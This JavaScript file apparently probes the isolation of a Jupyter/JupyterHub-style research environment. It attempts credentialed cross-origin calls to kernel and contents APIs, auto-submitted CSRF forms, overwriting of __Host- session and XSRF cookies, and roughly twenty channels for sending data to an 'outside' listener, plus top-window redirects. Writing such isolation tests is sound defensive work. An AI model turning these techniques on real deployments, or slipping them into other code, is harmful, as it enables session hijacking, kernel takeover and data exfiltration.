// What a script may try that owns the page it runs in. Each function is given where to aim and says what came back.
const hostile = {
  async reach(origin) {
    const seen = {};
    const silence = () => new Promise((done) => setTimeout(() => done("silence"), 1500));
    const attempt = async (name, work) => {
      try {
        seen[name] = await Promise.race([work(), silence()]);
      } catch (error) {
        seen[name] = "refused";
      }
    };
    const ask = async (path, options) => {
      const response = await fetch(origin + path, { credentials: "include", ...options });
      return response.type === "opaque" ? "opaque" : `${response.status} ${await response.text()}`;
    };
    const json = { "Content-Type": "application/json" };
    await attempt("get", () => ask("/api/contents/x", {}));
    await attempt("get-opaque", () => ask("/api/contents/x", { mode: "no-cors" }));
    await attempt("post", () => ask("/api/kernels", { method: "POST", headers: json, body: "{}" }));
    await attempt("post-simple", () => ask("/api/kernels", { method: "POST", mode: "no-cors", body: "{}" }));
    await attempt("delete", () => ask("/api/kernels/1", { method: "DELETE" }));
    await attempt("socket", () => new Promise((done, fail) => {
      const socket = new WebSocket(`${origin.replace("http", "ws")}/api/kernels/1/channels`);
      socket.onmessage = (message) => done(message.data);
      socket.onerror = () => fail(new Error("closed"));
    }));
    await attempt("script", () => new Promise((done, fail) => {
      const script = document.createElement("script");
      script.src = `${origin}/api/contents/x.js`;
      script.onload = () => done("ran");
      script.onerror = () => fail(new Error("not loaded"));
      document.head.append(script);
    }));
    return seen;
  },

  forms(targets) {
    for (const [index, target] of targets.entries()) {
      for (const enctype of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"]) {
        const frame = document.createElement("iframe");
        frame.name = `f${index}${enctype}`;
        const form = document.createElement("form");
        Object.assign(form, { method: "post", action: target, target: frame.name, enctype });
        const field = document.createElement("input");
        Object.assign(field, { name: "csrf", value: "x" });
        form.append(field);
        document.body.append(frame, form);
        form.submit();
      }
    }
  },

  toss([site, other]) {
    const parent = location.hostname.split(".").slice(1).join(".");
    for (const name of ["__Host-tre", "__Host-ws", "__Host-hub-_xsrf", "__Host-hub-jupyterhub-hub-login"]) {
      for (const domain of [site, parent, other, `.${site}`]) {
        document.cookie = `${name}=tossed; Secure; Path=/; Domain=${domain}`;
        document.cookie = `${name}=tossed; Path=/; Domain=${domain}`;
        document.cookie = `${name}=tossed; Secure; Path=/gate; Domain=${domain}`;
      }
    }
    for (const name of ["_xsrf", "jupyterhub-session-id", "plain", "__Secure-tre"]) {
      document.cookie = `${name}=tossed; Path=/; Domain=${site}`;
      document.cookie = `${name}=tossed; Secure; Path=/hub/; Domain=${site}`;
    }
  },

  async leave([outside, other, people]) {
    const put = (tag, fields) => {
      const element = Object.assign(document.createElement(tag), fields);
      document.body.append(element);
      return element;
    };
    const tries = [
      () => { new Image().src = `${outside}/image`; },
      () => fetch(`${outside}/fetch`, { mode: "no-cors" }),
      () => navigator.sendBeacon(`${outside}/beacon`, "rows"),
      () => new WebSocket(`${outside.replace("http", "ws")}/socket`),
      () => new EventSource(`${outside}/events`),
      () => put("link", { rel: "prefetch", href: `${outside}/prefetch` }),
      () => put("link", { rel: "stylesheet", href: `${outside}/style` }),
      () => put("script", { src: `${outside}/script` }),
      () => put("video", { src: `${outside}/video` }),
      () => { document.body.style.backgroundImage = `url(${outside}/background)`; },
      () => put("iframe", { src: `${outside}/frame` }),
      () => put("object", { data: `${outside}/object` }),
      () => put("form", { action: `${outside}/form`, target: put("iframe", { name: "aside" }).name }).submit(),
      () => window.open(`${outside}/popup`),
      () => put("a", { href: `${outside}/link`, target: "_blank", ping: `${outside}/ping` }).click(),
      () => put("a", { href: "data:text/csv,rows", download: "rows.csv" }).click(),
      () => window.parent.document.title,
      () => navigator.serviceWorker.register("/api/contents/worker.js"),
      () => put("iframe", { src: `${other}/lab` }),
    ];
    const steering = [
      () => { window.parent.location.href = `${people}/static/steered`; },
      () => put("meta", { httpEquiv: "refresh", content: `0; url=${outside}/refresh` }),
      () => { window.top.location = `${outside}/top`; },
    ];
    for (const attempt of [...tries, ...(people ? steering : [])]) {
      try {
        await Promise.race([attempt(), new Promise((done) => setTimeout(done, 200))]);
      } catch (error) {
        // refused: the listener outside and the stubs tell whether it was
      }
    }
  },
};
